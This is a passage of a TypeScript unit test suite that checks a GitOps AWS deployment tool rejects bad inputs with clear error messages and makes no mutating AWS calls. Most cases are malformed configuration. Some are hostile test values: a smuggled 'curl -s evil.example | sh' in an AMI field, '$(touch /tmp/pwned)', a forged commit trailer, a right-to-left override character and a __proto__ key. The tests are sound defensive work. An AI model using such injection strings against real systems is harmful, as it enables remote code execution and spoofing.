/**
 * Bad-inputs catalogue, unit suite (issue 6; rows in ./catalogue.ts, table in docs/reliability.md).
 * Each case goes through the product's real entry point with every AWS client mocked by a world
 * that WOULD accept changes (change sets, executions, builds), and must end with an InputError
 * that says what is wrong, where, and how to fix it, with no mutating AWS call made.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

import { StartImagePipelineExecutionCommand } from '@aws-sdk/client-imagebuilder';

import { readInputs } from '../../../actions/lib/action/runtime';
import { createAwsClients } from '../../../actions/lib/aws/clients';
import { VirtualClock } from '../../../actions/lib/clock';
import { createUpdateReport, updateAppStack } from '../../../actions/lib/cloudformation/update-app-stack';
import { InputError } from '../../../actions/lib/errors';
import { loadEnvironments, loadRevocations, REVOCATIONS_FILE } from '../../../actions/lib/parameters';
import { RecordingLogger } from '../../../actions/lib/logger';
import { resolveRegion } from '../../../actions/lib/region';
import { VERIFY_ALB_INPUT_NAMES, verifyAlbInputSchema } from '../../../actions/lib/verify/inputs';
import { parseWatchArgs } from '../../../actions/lib/verify/watch-cli';
import { BUILD_AMI_INPUT_NAMES, buildAmiInputSchema, toBuildAmiInputs } from '../../../actions/build-ami/src/inputs';
import { toUpdateAppStackInputs, UPDATE_APP_STACK_INPUT_NAMES, updateAppStackInputSchema } from '../../../actions/update-app-stack/src/inputs';
import { BAD_INPUTS, casesOf, UNIT_BAD_INPUTS_ELSEWHERE } from './catalogue';
import { AwsWorld, REPO_ROOT, STACK } from './support/aws-world';
import { awsMocks, expectNoMutatingCalls, receivedCommands, resetAwsMocks } from './support/no-mutation';
import { createGitopsRepo, DEV_FILE, devParameters, devStackParameters, NEW_AMI, OLD_AMI, runGitops, type GitopsRepo } from './support/repo';
import { awsClockOn } from '../support/aws-time';

const mocks = awsMocks();
const PIPELINE_ARN = 'arn:aws:imagebuilder:us-east-1:123456789012:image-pipeline/patch-dev-app';
/** Canonical's account: its Ubuntu AMIs are public, so any account can name one in a parameters file. */
const CANONICAL = '099720109477';
const IMAGE_ARN = 'arn:aws:imagebuilder:us-east-1:123456789012:image/patch-dev-app/1.0.0/7';

/** A part of a message: a substring, a pattern, or a substring that depends on the scene (a scratch path). */
type Part = string | RegExp | ((scene: Scene) => string);

/** What a message must contain: what is wrong, where it is, and how to fix it. */
interface Said {
  what: Part;
  where: Part;
  fix: Part;
}

interface Scene {
  world: AwsWorld;
  clock: VirtualClock;
  scratch: string;
  repo: () => GitopsRepo;
}

type Act = (scene: Scene) => Promise<unknown> | unknown;

interface Implementation {
  /** Sets the scene before the act (a commit pushed to origin): "nothing moved" is checked from after it. */
  arrange?: (scene: Scene) => void;
  act: Act;
  said: Said;
  /** The file an annotation should point at (parameters and wiring files), and its line. */
  location?: { file: (scene: Scene) => string; line?: number };
}

// ---- parameters files, through updateAppStack (deploy mode, the real templates/app.yaml) ----------

const TEMPLATE = join(REPO_ROOT, 'templates/app.yaml');

/** A parameters file in the scratch directory: the real parameters/dev.json bumped to NEW_AMI, then `edit`ed. */
function parametersFile(scene: Scene, edit: (text: string) => string = (t) => t): string {
  const file = join(scene.scratch, DEV_FILE);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, edit(devParameters(NEW_AMI)));
  return file;
}

function deploy(scene: Scene, file: string, templateFile = TEMPLATE) {
  const inputs = {
    stackName: STACK,
    region: 'us-east-1',
    parametersFile: file,
    templateFile,
    mode: 'deploy' as const,
    timeoutMinutes: 60,
    rollbackMonitoringMinutes: 5,
    run: { id: '42', attempt: '1', commit: '0123456789abcdef' },
  };
  // Real SDK clients, built the way main.ts builds them; the mocks intercept every send.
  const { cloudFormation, ec2 } = createAwsClients({ region: 'us-east-1' });
  return updateAppStack(inputs, { clients: { cloudFormation, ec2, awsClock: awsClockOn(scene.clock) }, logger: new RecordingLogger(), clock: scene.clock }, createUpdateReport(inputs, 0));
}

const withParameters = (edit: (text: string) => string): Act => (scene) => deploy(scene, parametersFile(scene, edit));
const replaceLine = (from: RegExp, to: string) => (text: string) => {
  if (!from.test(text)) throw new Error(`fixture: ${from} is not in parameters/dev.json`);
  return text.replace(from, to);
};
const fileOf = (scene: Scene) => join(scene.scratch, DEV_FILE);

// ---- slots parameters files (test/fixtures/slots/dev.json, edited), against templates/app-slots.yaml ----

const SLOTS_TEMPLATE = join(REPO_ROOT, 'templates/app-slots.yaml');
const withSlotsParameters = (changes: Record<string, string>): Act => (scene) => {
  const fixture = JSON.parse(readFileSync(join(REPO_ROOT, 'test/fixtures/slots/dev.json'), 'utf8')) as { Parameters: Record<string, string> };
  const file = parametersFile(scene, () => `${JSON.stringify({ Parameters: { ...fixture.Parameters, BlueAmazonMachineImage: OLD_AMI, GreenAmazonMachineImage: NEW_AMI, ...changes } }, null, 2)}\n`);
  return deploy(scene, file, SLOTS_TEMPLATE);
};

// ---- the wiring file, through loadEnvironments on a copy of the repository's layout --------------

const WIRING = JSON.parse(readFileSync(join(REPO_ROOT, 'parameters/environments.json'), 'utf8')) as {
  environments: Record<string, { region: string; stacks: Record<string, string>; verify: Record<string, unknown> }>;
};

/** parameters/environments.json as text after `edit`, in a scratch copy of the repository layout. */
function wiringFile(scene: Scene, text: string): string {
  for (const file of ['parameters/dev.json', 'parameters/prod.json', 'templates/app.yaml', 'templates/app-slots.yaml']) {
    mkdirSync(dirname(join(scene.scratch, file)), { recursive: true });
    writeFileSync(join(scene.scratch, file), readFileSync(join(REPO_ROOT, file)));
  }
  const file = join(scene.scratch, 'parameters/environments.json');
  writeFileSync(file, text);
  return file;
}
const wiringWith = (mutate: (wiring: typeof WIRING) => void): Act => (scene) => {
  const copy = structuredClone(WIRING);
  mutate(copy);
  return loadEnvironments(wiringFile(scene, `${JSON.stringify(copy, null, 2)}\n`));
};
const wiringPath = (scene: Scene) => join(scene.scratch, 'parameters/environments.json');

// ---- action inputs, through each action's schema the way main.ts reads them ---------------------

const reader = (inputs: Record<string, string>) => (name: string) => inputs[name] ?? '';
const updateAppStackInputs = (inputs: Record<string, string>, env: NodeJS.ProcessEnv = { AWS_REGION: 'us-east-1' }) => () =>
  toUpdateAppStackInputs(readInputs(updateAppStackInputSchema, UPDATE_APP_STACK_INPUT_NAMES, reader({ 'stack-name': STACK, 'parameters-file': DEV_FILE, ...inputs })), env);
const buildAmiInputs = (inputs: Record<string, string>, env: NodeJS.ProcessEnv = { AWS_REGION: 'us-east-1', GITHUB_RUN_ID: '42' }) => () =>
  toBuildAmiInputs(readInputs(buildAmiInputSchema, BUILD_AMI_INPUT_NAMES, reader(inputs)), env);
const verifyAlbInputs = (inputs: Record<string, string>) => () => {
  const parsed = readInputs(verifyAlbInputSchema, VERIFY_ALB_INPUT_NAMES, reader({ 'stack-name': STACK, 'expected-ami-id': NEW_AMI, ...inputs }));
  return resolveRegion(parsed.region, { AWS_REGION: 'us-east-1' });
};

// ---- workflow_dispatch inputs, through the gitops command the Failback workflow runs first -------

const failback = (inputs: Record<string, string>): Act => (scene) => runGitops('resolve-failback', inputs, scene.repo().context(scene.clock));
const failbackRecord = (inputs: Record<string, string>): Act => (scene) => runGitops('record-failback', inputs, scene.repo().context(scene.clock));

/** The scene's parameters file replaced by a symbolic link to a copy of it beside it. */
function linkedParametersFile(scene: Scene): string {
  const file = parametersFile(scene);
  renameSync(file, `${file}.real`);
  symlinkSync('dev.json.real', file);
  return file;
}

/** In the workspace: parameters/ moved to config/ with a link in its place, committed and pushed as a merge would be. */
function linkParametersDirectory(scene: Scene): void {
  const { workspace } = scene.repo();
  renameSync(join(workspace.dir, 'parameters'), join(workspace.dir, 'config'));
  symlinkSync('config', join(workspace.dir, 'parameters'));
  workspace.git('add', '--all');
  workspace.git('commit', '--quiet', '-m', 'Move the parameters to config/ (a link keeps the old path)');
  workspace.git('push', '--quiet', 'origin', 'HEAD:main');
}

const CYRILLIC_AMI = `${NEW_AMI.slice(0, 14)}\u0430${NEW_AMI.slice(15)}`;

const IMPLEMENTATIONS: Record<string, Implementation> = {
  B01: {
    act: (scene) => deploy(scene, join(scene.scratch, 'parameters/missing.json')),
    said: { what: 'no such file', where: /for \S+\/parameters\/missing\.json/, fix: 'Check the path (parametersFile in parameters/environments.json, or the parameters-file input)' },
  },
  B02: {
    act: withParameters(() => ' \n'),
    said: { what: 'the file is empty', where: (scene) => `Parameters file invalid for ${fileOf(scene)}:`, fix: 'Write {"Parameters": {"AmazonMachineImage": "ami-…", …}}' },
    location: { file: fileOf, line: 1 },
  },
  B03: {
    act: withParameters(replaceLine(/"AccessLogsBucket": ""\n/, '"AccessLogsBucket": "",\n')),
    said: { what: "trailing comma before '}'", where: /line 15, column \d+/, fix: 'Fix the syntax there' },
    location: { file: fileOf, line: 15 },
  },
  B04: {
    act: withParameters(() => '{\n  "Parameters": [\n    {"ParameterKey": "AmazonMachineImage", "ParameterValue": "ami-0bbbbbbbbbbbbbbb2"}\n  ]\n}\n'),
    said: { what: '"Parameters" is an array, not an object', where: 'line 2', fix: 'Write "Parameters": {"Key": "value", …}' },
    location: { file: fileOf, line: 2 },
  },
  B05: {
    act: withParameters(replaceLine(/"DesiredCapacity": "2"/, '"DesiredCapacity": 2')),
    said: { what: 'Parameters.DesiredCapacity is the number 2, not a string', where: 'line 7', fix: 'Write "2" in quotes' },
    location: { file: fileOf, line: 7 },
  },
  B06: {
    act: withParameters(replaceLine(/"InstanceType":/, '"InstanceTyp":')),
    said: { what: 'unknown parameter "InstanceTyp"', where: 'line 5', fix: 'Rename it to "InstanceType"' },
    location: { file: fileOf, line: 5 },
  },
  B07: {
    act: withParameters(replaceLine(/ {4}"NetworkStackName": "patch-dev-network",\n/, '')),
    said: { what: 'missing parameter "NetworkStackName"', where: /templates\/app\.yaml gives it no Default/, fix: 'Add "NetworkStackName": "…" under Parameters' },
    location: { file: fileOf },
  },
  B08: {
    act: withParameters(replaceLine(/"InstanceType": "t3.micro"/, '"InstanceType": "t2.micro"')),
    said: { what: 'InstanceType = "t2.micro" is not one of the AllowedValues', where: 'line 5', fix: 'Use one of them' },
    location: { file: fileOf, line: 5 },
  },
  B09: {
    act: withParameters(replaceLine(/"SignalTimeout": "PT10M"/, '"SignalTimeout": "10 minutes"')),
    said: { what: 'SignalTimeout = "10 minutes" does not match the AllowedPattern', where: 'line 10', fix: /the template says: an ISO 8601 duration such as PT10M.*Change the value to match/ },
    location: { file: fileOf, line: 10 },
  },
  B10: {
    act: withParameters(replaceLine(/"AmazonMachineImage": "ami-[0-9a-f]+"/, '"AmazonMachineImage": "ami-12345"')),
    said: { what: 'AmazonMachineImage = "ami-12345" is not an AMI ID', where: 'line 4', fix: 'Use the ami-id output of build-ami' },
    location: { file: fileOf, line: 4 },
  },
  B11: {
    act: (scene) => {
      scene.world.images.delete(NEW_AMI);
      return deploy(scene, parametersFile(scene));
    },
    said: { what: `AmazonMachineImage = "${NEW_AMI}" does not exist in us-east-1`, where: 'line 4', fix: 'Use the ami-id output of build-ami for us-east-1' },
    location: { file: fileOf, line: 4 },
  },
  B13: {
    act: (scene) => {
      scene.world.images.set(NEW_AMI, { ImageId: NEW_AMI, State: 'available', DeprecationTime: '2025-11-01T00:00:00.000Z' });
      return deploy(scene, parametersFile(scene));
    },
    said: { what: 'was deprecated on 2025-11-01T00:00:00.000Z', where: 'line 4', fix: `aws ec2 disable-image-deprecation --image-id ${NEW_AMI}` },
    location: { file: fileOf, line: 4 },
  },
  B14: {
    act: (scene) => {
      scene.world.images.set(NEW_AMI, { ImageId: NEW_AMI, State: 'disabled' });
      return deploy(scene, parametersFile(scene));
    },
    said: { what: 'is disabled, so no instance can launch from it', where: 'line 4', fix: `aws ec2 enable-image --image-id ${NEW_AMI}` },
    location: { file: fileOf, line: 4 },
  },
  B15: {
    act: withParameters((text) => text.replace('"Tags": {', `"Tags": {\n    "Padding": "${'x'.repeat(70_000)}",`)),
    said: { what: /\d+ bytes, over the 65536-byte \(64 KiB\) limit/, where: (scene) => `Parameters file invalid for ${fileOf(scene)}:`, fix: 'check that the path names the right file' },
    location: { file: fileOf, line: 1 },
  },
  B16: {
    act: (scene) => runGitops('resolve-environment', { environment: 'prd' }, scene.repo().context(scene.clock)),
    said: { what: 'Unknown environment "prd"', where: 'parameters/environments.json', fix: /Did you mean "prod"\?.*Use one of them/ },
  },
  B17: {
    act: (scene) => {
      const text = readFileSync(join(REPO_ROOT, 'parameters/environments.json'), 'utf8');
      const dev = /\n {4}"dev": \{[\s\S]*?\n {4}\},\n/.exec(text)?.[0];
      if (!dev) throw new Error('fixture: no dev block in parameters/environments.json');
      return loadEnvironments(wiringFile(scene, text.replace(dev, dev + dev.slice(1))));
    },
    said: { what: /key "dev" appears twice in environments \(first on line \d+\)/, where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `, fix: 'Delete or rename one of them' },
    location: { file: wiringPath },
  },
  B18: {
    act: wiringWith((w) => (w.environments.prod.stacks.app = 'patch-dev-app')),
    said: { what: 'stack name "patch-dev-app" is used by both environments.dev.stacks.app and environments.prod.stacks.app', where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `, fix: 'Give each stack its own name' },
    location: { file: wiringPath },
  },
  B19: {
    act: wiringWith((w) => (w.environments.prod.region = 'us-east')),
    said: { what: 'environments.prod.region = "us-east" must match pattern', where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `, fix: /The AWS region the environment's stacks live in, e\.g\. us-east-1\)\. Fix the value/ },
    location: { file: wiringPath },
  },
  B20: {
    act: wiringWith((w) => {
      (w.environments.dev as Record<string, unknown>).regoin = 'us-east-1';
    }),
    said: { what: 'environments.dev has an unknown key "regoin"', where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `, fix: 'Rename it to "region"' },
    location: { file: wiringPath },
  },
  B21: {
    act: updateAppStackInputs({ region: 'us-east-1a' }),
    said: { what: 'Region "us-east-1a"', where: 'from input region', fix: 'Use a name like us-east-1' },
  },
  B22: {
    act: buildAmiInputs({ 'pipeline-arn': PIPELINE_ARN }, { AWS_REGION: 'US East (N. Virginia)', GITHUB_RUN_ID: '42' }),
    said: { what: 'Region "US East (N. Virginia)"', where: 'from AWS_REGION', fix: 'Use a name like us-east-1' },
  },
  B23: {
    act: buildAmiInputs({ 'pipeline-arn': PIPELINE_ARN, 'timeout-minutes': '-5' }),
    said: { what: 'input "timeout-minutes" = "-5": must be a whole number of minutes', where: 'Invalid action inputs', fix: `Fix them in the workflow step's "with:" block` },
  },
  B24: {
    act: updateAppStackInputs({ 'timeout-minutes': '100000' }),
    said: { what: 'input "timeout-minutes" = "100000"', where: `the workflow step's "with:" block`, fix: "must be at most 360 (GitHub's job limit)" },
  },
  B25: {
    act: verifyAlbInputs({ 'watch-seconds': '86400' }),
    said: { what: 'input "watch-seconds" = "86400"', where: `the workflow step's "with:" block`, fix: 'must be at most 3600 seconds' },
  },
  B26: {
    act: updateAppStackInputs({ mode: 'destroy' }),
    said: { what: 'input "mode" = "destroy"', where: `the workflow step's "with:" block`, fix: 'must be deploy (create and execute a change set) or preview (create, show, delete)' },
  },
  B27: {
    act: buildAmiInputs({ 'pipeline-arn': PIPELINE_ARN, 'image-arn': IMAGE_ARN }),
    said: { what: 'input "pipeline-arn"', where: `the workflow step's "with:" block`, fix: 'set exactly one of pipeline-arn (start a build) and image-arn (wait on a started one)' },
  },
  B28: {
    act: failback({ environment: 'dev', 'target-ami': 'ami-0bbbbbbbbbbbbbbb2; curl -s evil.example | sh', reason: 'p99 doubled' }),
    said: { what: 'target-ami "ami-0bbbbbbbbbbbbbbb2; curl -s evil.exam…" (48 characters; first 40 shown) is not an AMI ID', where: 'Failback request rejected for dev', fix: 'leave it empty to use the AMI before the current one' },
  },
  B29: {
    act: failback({ environment: 'dev$(touch /tmp/pwned)', reason: 'p99 doubled' }),
    said: { what: 'Unknown environment "dev$(touch /tmp/pwned)"', where: 'Failback request rejected for "dev$(touch /tmp/pwned)"', fix: 'Use one of them' },
  },
  B100: {
    act: withSlotsParameters({ LiveSlot: 'green', GreenCapacity: '0', BlueWeight: '0', GreenWeight: '100' }),
    said: { what: 'GreenCapacity = "0", but LiveSlot is "green": the live slot has no instances', where: 'line 9', fix: 'Give it capacity, or name the other slot live' },
    location: { file: fileOf, line: 9 },
  },
  B101: {
    act: withSlotsParameters({ BlueWeight: '90' }),
    said: { what: 'BlueWeight + GreenWeight = 90 + 0 = 90, not 100', where: 'line 7', fix: 'Make them add up to 100 (at rest: BlueWeight "100", GreenWeight "0")' },
    location: { file: fileOf, line: 7 },
  },
  B102: {
    act: wiringWith((w) => Object.assign(w.environments.dev, { strategy: 'slots', appTemplate: 'templates/app.yaml' })),
    said: { what: 'environments.dev.strategy is "slots", but "templates/app.yaml" is not a slots template', where: /line \d+:/, fix: 'Use templates/app-slots.yaml' },
    location: { file: wiringPath },
  },
  B116: {
    act: (scene) => {
      // templates/app-slots.yaml as it would be after growing past the inline limit (a comment pads it).
      const grown = join(scene.scratch, 'templates/app-slots.yaml');
      mkdirSync(dirname(grown), { recursive: true });
      writeFileSync(grown, `${readFileSync(SLOTS_TEMPLATE, 'utf8')}${'# grown\n'.repeat(200)}`);
      const fixture = JSON.parse(readFileSync(join(REPO_ROOT, 'test/fixtures/slots/dev.json'), 'utf8')) as { Parameters: Record<string, string> };
      const file = parametersFile(scene, () => `${JSON.stringify({ Parameters: { ...fixture.Parameters, BlueAmazonMachineImage: OLD_AMI, GreenAmazonMachineImage: NEW_AMI } }, null, 2)}\n`);
      return deploy(scene, file, grown);
    },
    said: { what: /templates\/app-slots\.yaml is \d+ bytes, over the 51200-byte limit of an inline TemplateBody/, where: 'no S3 bucket is configured', fix: 'Set the template-bucket input (templateBucket in parameters/environments.json)' },
    location: { file: (scene) => join(scene.scratch, 'templates/app-slots.yaml') },
  },
  B117: {
    act: wiringWith((w) => Object.assign(w.environments.dev, { templateBucket: 'My_Templates' })),
    said: { what: 'environments.dev.templateBucket', where: /line \d+:/, fix: '^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$' },
    location: { file: wiringPath },
  },
  B30: {
    act: failback({ environment: 'dev', 'target-ami': NEW_AMI, reason: 'p99 doubled' }),
    said: { what: `parameters/dev.json already names ${NEW_AMI}`, where: 'Failback refused for dev', fix: 'To redeploy it, re-run the last Deploy run; to go elsewhere, give another target-ami' },
  },
  B31: {
    act: failback({ environment: 'qa', reason: 'p99 doubled' }),
    said: { what: 'Unknown environment "qa"', where: 'the environments are dev, prod', fix: 'Fix the inputs and run the workflow again' },
  },
  B32: {
    act: failback({ environment: 'dev', reason: 'p99 doubled\nCo-authored-by: mallory <m@evil.example>' }),
    said: { what: 'reason contains a line break, control or invisible formatting character at character 12 (U+000A', where: 'Failback request rejected for dev', fix: 'write it on one line' },
  },
  B60: {
    act: (scene) => deploy(scene, linkedParametersFile(scene)),
    said: { what: 'it is a symbolic link (to "dev.json.real")', where: (scene) => `Parameters file invalid for ${fileOf(scene)}:`, fix: 'Replace the link with a copy of the file itself' },
    location: { file: fileOf, line: 1 },
  },
  B61: {
    act: (scene) => {
      const file = wiringFile(scene, readFileSync(join(REPO_ROOT, 'parameters/environments.json'), 'utf8'));
      unlinkSync(join(scene.scratch, 'parameters/prod.json'));
      symlinkSync('dev.json', join(scene.scratch, 'parameters/prod.json'));
      return loadEnvironments(file);
    },
    said: {
      what: 'environments.prod.parametersFile = "parameters/prod.json": it is a symbolic link (to "dev.json"); links are refused because git stores a link, not the file, and a link can make one environment read another\'s',
      where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `,
      fix: 'Replace the link with a copy of the file itself',
    },
    location: { file: wiringPath },
  },
  B62: {
    act: (scene) => {
      const file = parametersFile(scene);
      unlinkSync(file);
      execFileSync('mkfifo', [file]);
      return deploy(scene, file);
    },
    said: { what: 'it is a named pipe (FIFO), not a regular file', where: (scene) => `Parameters file invalid for ${fileOf(scene)}:`, fix: 'Point at a regular file in the repository' },
    location: { file: fileOf, line: 1 },
  },
  B63: {
    arrange: linkParametersDirectory,
    act: failbackRecord({ environment: 'dev', 'target-ami': OLD_AMI, reason: 'p99 doubled' }),
    said: { what: '"parameters" on its path is a symbolic link (to "config")', where: 'parameters/environments.json', fix: 'Replace the link with a copy of the file itself' },
  },
  B64: {
    act: withParameters((text) => text.replace('"Tags": {', `"Tags": {\n    "Deep": ${'['.repeat(20_000)}${']'.repeat(20_000)},`)),
    said: { what: 'Parameters file is nested too deeply', where: /line 17, column \d+ opens level 33/, fix: 'at most 32 are read' },
    location: { file: fileOf, line: 17 },
  },
  B65: {
    act: withParameters(replaceLine(/"InstanceType": "t3.micro",/, '"InstanceType": "t3.micro",\n    "__proto__": "t3.large",')),
    said: { what: 'unknown parameter "__proto__"', where: 'line 6', fix: 'Remove it, or declare it in' },
    location: { file: fileOf, line: 6 },
  },
  B66: {
    act: withParameters(replaceLine(/"AmazonMachineImage": "ami-[0-9a-f]+"/, `"AmazonMachineImage": "${CYRILLIC_AMI}"`)),
    said: {
      what: `AmazonMachineImage = "${NEW_AMI.slice(0, 14)}\\u0430${NEW_AMI.slice(15)}" (character 15 is U+0430 CYRILLIC SMALL LETTER A, not ASCII) is not an AMI ID`,
      where: 'line 4',
      fix: 'Use the ami-id output of build-ami',
    },
    location: { file: fileOf, line: 4 },
  },
  B67: {
    act: failback({ environment: 'dev', 'target-ami': `${OLD_AMI}\u200b`, reason: 'p99 doubled' }),
    said: { what: `target-ami "${OLD_AMI}\\u200b" (character 22 is U+200B ZERO WIDTH SPACE, not ASCII) is not an AMI ID`, where: 'Failback request rejected for dev', fix: 'leave it empty' },
  },
  B68: {
    act: failback({ environment: 'dev', reason: 'rollback after \u202etxt.exe review' }),
    said: { what: 'reason contains a line break, control or invisible formatting character at character 16 (U+202E RIGHT-TO-LEFT OVERRIDE)', where: 'Failback request rejected for dev', fix: 'write it on one line of visible text' },
  },
  B69: {
    act: verifyAlbInputs({ 'expected-ami-id': `ami-${'0'.repeat(100_000)}` }),
    said: { what: /input "expected-ami-id" = "ami-0{76}…" \(100004 characters; first 80 shown\): must be an AMI ID/, where: `the workflow step's "with:" block`, fix: 'like ami-0123456789abcdef0' },
  },
  B70: {
    act: verifyAlbInputs({ 'watch-seconds': '0x3' }),
    said: { what: 'input "watch-seconds" = "0x3": must be a whole number of seconds (decimal digits only)', where: 'Invalid action inputs', fix: `Fix them in the workflow step's "with:" block` },
  },
  B71: {
    act: verifyAlbInputs({ 'max-error-rate': '1e-1' }),
    said: { what: 'input "max-error-rate" = "1e-1": must be a number between 0 and 1', where: 'Invalid action inputs', fix: 'written with digits and a decimal point (e.g. 0.01)' },
  },
  B74: {
    act: (scene) => {
      // A public AMI of another account (Canonical's 099720109477): its ID alone says nothing about who made it.
      scene.world.images.set(NEW_AMI, { ImageId: NEW_AMI, OwnerId: CANONICAL, State: 'available' });
      return deploy(scene, parametersFile(scene));
    },
    said: {
      what: `AmazonMachineImage = "${NEW_AMI}" is owned by account ${CANONICAL}, which is not on the AMI owner allowlist (self (123456789012); the default: no ami-owners input)`,
      where: 'line 4',
      fix: `add "${CANONICAL}" to the environment's amiOwners in parameters/environments.json`,
    },
    location: { file: fileOf, line: 4 },
  },
  B75: {
    act: (scene) => {
      scene.world.images.set(OLD_AMI, { ImageId: OLD_AMI, OwnerId: CANONICAL, State: 'available' });
      return runGitops('check-image', { environment: 'dev', 'ami-id': OLD_AMI }, scene.repo().context(scene.clock));
    },
    said: {
      what: `AMI ${OLD_AMI} is owned by account ${CANONICAL}, which is not on the AMI owner allowlist (self (123456789012), 137112412989; environments.dev.amiOwners in parameters/environments.json)`,
      where: `Failback target ${OLD_AMI} is not usable in us-east-1`,
      fix: `add "${CANONICAL}" to environments.dev.amiOwners in parameters/environments.json`,
    },
  },
  B76: {
    act: (scene) => {
      scene.world.images.set(OLD_AMI, { ImageId: OLD_AMI, OwnerId: CANONICAL, State: 'available' });
      return runGitops('prepare-failback', { environment: 'dev', 'previous-ami-id': OLD_AMI }, scene.repo().context(scene.clock));
    },
    said: {
      what: `AMI ${OLD_AMI} is owned by account ${CANONICAL}, which is not on the AMI owner allowlist`,
      where: `Failback target ${OLD_AMI} is not usable in us-east-1`,
      fix: `add "${CANONICAL}" to environments.dev.amiOwners in parameters/environments.json`,
    },
  },
  B77: {
    act: wiringWith((w) => {
      (w.environments.dev as Record<string, unknown>).amiOwners = ['self', 'amazon'];
    }),
    said: { what: 'environments.dev.amiOwners.1 = "amazon" must match pattern', where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `, fix: 'name the account (137112412989 publishes Amazon Linux)' },
    location: { file: wiringPath },
  },
  B81: {
    act: wiringWith((w) => {
      (w.environments.dev as Record<string, unknown>).imagePipelineAccount = '1234-5678-9012';
    }),
    said: { what: 'environments.dev.imagePipelineAccount = "1234-5678-9012" must match pattern', where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `, fix: 'that account\'s 12-digit ID' },
    location: { file: wiringPath },
  },
  B131: {
    act: wiringWith((w) => {
      Object.assign(w.environments.prod as Record<string, unknown>, { copyRoleArn: 'arn:aws:iam::222222222222:role/patch-prod-ami-copy', copyKmsKeyArn: 'arn:aws:kms:us-east-1:333333333333:key/0f0f0f0f-0000-4000-8000-000000000002' });
    }),
    said: {
      what: 'environments.prod.copyKmsKeyArn is a key of account 333333333333, but copyRoleArn makes the copy in account 222222222222: EC2 encrypts a copy only with a key of the copying account',
      where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `,
      fix: "Use the AmiCopyKeyArn output of account 222222222222's github-oidc stack",
    },
    location: { file: wiringPath },
  },
  B132: {
    act: wiringWith((w) => {
      Object.assign(w.environments.prod as Record<string, unknown>, { copyRoleArn: 'arn:aws:iam::222222222222:role/patch-prod-ami-copy', copyKmsKeyArn: 'arn:aws:kms:eu-west-1:222222222222:key/0f0f0f0f-0000-4000-8000-000000000002' });
    }),
    said: {
      what: 'environments.prod.copyKmsKeyArn is a key of eu-west-1, but the environment (and so its copy) is in us-east-1: KMS keys are regional',
      where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `,
      fix: 'Use a key of us-east-1',
    },
    location: { file: wiringPath },
  },
  B133: {
    act: wiringWith((w) => {
      (w.environments.prod as Record<string, unknown>).copyKmsKeyArn = 'arn:aws:kms:us-east-1:123456789012:key/0f0f0f0f-0000-4000-8000-000000000002';
    }),
    said: {
      what: 'environments.prod.copyKmsKeyArn is set without copyRoleArn: a copy key is for an environment in another account',
      where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `,
      fix: "Add copyRoleArn (that account's AmiCopyRoleArn), or delete copyKmsKeyArn",
    },
    location: { file: wiringPath },
  },
  B82: {
    act: wiringWith((w) => {
      (w.environments.dev as Record<string, unknown>).imagePipelineAccount = '210987654321';
    }),
    said: {
      what: 'environments.dev.amiOwners does not list "210987654321", the imagePipelineAccount of dev: every AMI its image pipeline builds would be refused',
      where: (scene) => `Environment wiring invalid for ${wiringPath(scene)}: line `,
      fix: 'Add "210987654321" to amiOwners, or delete amiOwners to use the default (self and the accounts that build its images)',
    },
    location: { file: wiringPath },
  },
  B83: {
    arrange: (scene) => {
      // dev's images are built in a central account, and its wiring leaves amiOwners to the default.
      const repo = scene.repo();
      const file = join(repo.workspace.dir, 'parameters/environments.json');
      const wiring = JSON.parse(readFileSync(file, 'utf8')) as { environments: Record<string, Record<string, unknown>> };
      delete wiring.environments.dev.amiOwners;
      wiring.environments.dev.imagePipelineAccount = '210987654321';
      writeFileSync(file, `${JSON.stringify(wiring, null, 2)}\n`);
      repo.workspace.git('commit', '--quiet', '-am', 'dev builds its images in 210987654321');
    },
    act: (scene) => {
      scene.world.images.set(OLD_AMI, { ImageId: OLD_AMI, OwnerId: CANONICAL, State: 'available' });
      return runGitops('check-image', { environment: 'dev', 'ami-id': OLD_AMI }, scene.repo().context(scene.clock));
    },
    said: {
      what: `AMI ${OLD_AMI} is owned by account ${CANONICAL}, which is not on the AMI owner allowlist (self (123456789012), 210987654321; the default (self and the imagePipelineAccount of it and of the earlier waves): environments.dev.amiOwners is not set in parameters/environments.json)`,
      where: `Failback target ${OLD_AMI} is not usable in us-east-1`,
      fix: `add "${CANONICAL}" to environments.dev.amiOwners in parameters/environments.json (as ["self", "<account>"])`,
    },
  },
  B144: {
    act: (scene) => {
      mkdirSync(join(scene.scratch, 'parameters'), { recursive: true });
      writeFileSync(join(scene.scratch, 'parameters/real.json'), '{"revocations": []}\n');
      symlinkSync('real.json', join(scene.scratch, REVOCATIONS_FILE));
      return loadRevocations(REVOCATIONS_FILE, { rootDir: scene.scratch });
    },
    said: { what: 'it is a symbolic link (to "real.json")', where: `Revocation list invalid for ${REVOCATIONS_FILE}: `, fix: 'Replace the link with a copy of the file itself' },
    location: { file: () => REVOCATIONS_FILE, line: 1 },
  },
  // One number grammar, one set of words: update-app-stack's inputs say what verify-alb's say (B70, B71).
  B140: {
    act: updateAppStackInputs({ 'verify-seconds': '0x3' }),
    said: { what: 'input "verify-seconds" = "0x3": must be a whole number of seconds (decimal digits only)', where: 'Invalid action inputs', fix: `Fix them in the workflow step's "with:" block` },
  },
  B141: {
    act: updateAppStackInputs({ 'max-error-rate': '1e-1' }),
    said: { what: 'input "max-error-rate" = "1e-1": must be a number between 0 and 1', where: 'Invalid action inputs', fix: 'written with digits and a decimal point (e.g. 0.01)' },
  },
  B142: {
    act: () => parseWatchArgs(['http://alb.example', '--seconds', '\u0663']),
    said: { what: '--seconds "\\u0663" (character 1 is U+0663 (a digit or number), not ASCII)', where: '--seconds', fix: 'must be a whole number of at least 0' },
  },
  B78: {
